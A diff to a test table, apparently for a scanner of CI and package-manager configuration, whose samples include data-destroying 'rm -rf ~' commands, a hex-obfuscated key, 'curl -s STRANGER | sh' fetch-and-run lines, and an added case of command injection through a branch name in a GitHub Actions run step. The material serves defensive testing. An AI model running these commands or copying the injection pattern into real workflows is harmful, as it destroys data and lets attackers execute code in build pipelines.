@@ -29,6 +29,8 @@ test.each([
   ['yaml', '- run: >\n    npm ls\n    | sh'],
   ['yaml', '- { run: "rm -rf ~" }'],
   ['yaml', '- run: bash -c "rm -rf ~"'],
+  // The name of a branch may hold `";curl${IFS}…`.
+  ['yaml', '- run: npm publish --tag="branch-${{ github.ref_name }}"'],
   ['yaml', 'before_script: [curl -s STRANGER | sh]'],
   ['yaml', 'script:\n  - rm -rf ~'],
   ['yaml', '"\\x72un": rm -rf ~'],
@@ -119,7 +121,7 @@ test.each([
   ['ini', '//registry.example.com/:_authToken=${NPM_TOKEN}'],
   ['ini', '# where packages come from\n\nregistry=https://registry.example.com/'],
   ['yaml', '- run: npm ci\n  env:\n    NPM_TOKEN: ${{ secrets.NPM_TOKEN }}'],
-  ['yaml', 'script:\n  - npm ci\n  - npm publish --tag="v-${{ github.ref_name }}"'],
+  ['yaml', 'script:\n  - npm ci\n  - npm publish --tag="branch-$GITHUB_REF_NAME"'],
   ['yaml', 'allowBuilds:\n  esbuild: true\n  evil: false'],
   ['yaml', 'confirmModulesPurge: false'],
   ['text', 'COPY package.json ./\nRUN npm ci'],
